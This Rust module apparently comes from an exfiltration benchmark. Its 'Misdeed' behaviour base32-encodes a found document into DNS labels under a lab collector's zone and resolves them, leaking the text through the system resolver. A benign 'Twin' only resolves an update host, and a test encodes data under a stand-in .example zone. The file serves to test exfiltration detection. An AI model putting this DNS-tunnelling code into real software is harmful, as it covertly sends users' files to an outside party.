//! A document goes out in the names that are asked for. ExfilBench F01, F02; ATT&CK T1071.004,
//! T1048.003.
//!
//! Pieces of a text, in base32, become labels below the collector's name, and the system's resolver
//! carries them to whoever answers for that zone: the product opens no connection of its own. The
//! twin resolves the update host alone.

use std::net::ToSocketAddrs as _;
use std::path::Path;

use data_encoding::BASE32_NOPAD;

use super::{Conduct, Loot, Trouble};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Bytes in one name: 176 characters in three labels, which leaves room for the zone below the
/// 253 characters of a name.
const PIECE_BYTES: usize = 110;

/// Characters in one label; 63 are possible (RFC 1035 §2.3.4).
const LABEL_CHARACTERS: usize = 60;

/// Takes a text and asks for it.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Text)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let zone = self.0.lab.collector()?.host;
        for name in names(self.0.document()?.fragment(), &zone) {
            // Whether such a name has an address does not matter: it has been asked for.
            let _ = (name.as_str(), 80).to_socket_addrs();
        }
        Ok(())
    }
}

/// Resolves its update host.
#[derive(Debug)]
struct Twin(Configuration);

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin(configuration))
}

impl Conduct for Twin {
    fn updated(&mut self) -> Result<(), Trouble> {
        send::resolve(&self.0.parameters.update_host(), 80)?;
        Ok(())
    }
}

fn names<'a>(bytes: &'a [u8], zone: &'a str) -> impl Iterator<Item = String> + 'a {
    bytes.chunks(PIECE_BYTES).map(move |piece| {
        let text = BASE32_NOPAD.encode(piece).to_ascii_lowercase();
        let labels: Vec<&str> = (0..text.len())
            .step_by(LABEL_CHARACTERS)
            .map(|start| &text[start..text.len().min(start + LABEL_CHARACTERS)])
            .collect();
        format!("{}.{zone}", labels.join("."))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_valid_and_carry_every_byte() {
        let bytes: Vec<u8> = (0..=255).cycle().take(1536).collect();
        let mut carried = Vec::new();
        for name in names(&bytes, "collector-00ff.norvel-999.example") {
            assert!(name.len() <= 253, "{name}");
            assert!(name.split('.').all(|label| (1..=63).contains(&label.len())), "{name}");
            let text = name.strip_suffix(".collector-00ff.norvel-999.example").unwrap();
            let text = text.replace('.', "").to_ascii_uppercase();
            carried.extend(BASE32_NOPAD.decode(text.as_bytes()).unwrap());
        }
        assert_eq!(carried, bytes);
    }
}
